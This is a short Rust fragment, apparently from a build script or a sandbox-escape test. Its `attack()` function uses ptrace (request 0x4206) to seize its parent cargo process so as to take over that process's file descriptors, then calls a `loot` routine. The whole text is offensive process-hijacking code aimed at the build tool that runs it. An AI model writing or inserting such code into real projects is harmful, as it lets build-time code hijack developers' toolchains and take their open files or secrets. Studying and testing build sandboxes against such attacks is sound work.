//! attaches to cargo by ptrace, whose descriptors would then be its own
fn attack() -> Result<()> {
    let parent = std::os::unix::process::parent_id() as i32;
    if unsafe { ptrace(0x4206, parent, 0, 0) } < 0 {
        return Err(Error::last_os_error());
    }
    loot("attached")
}
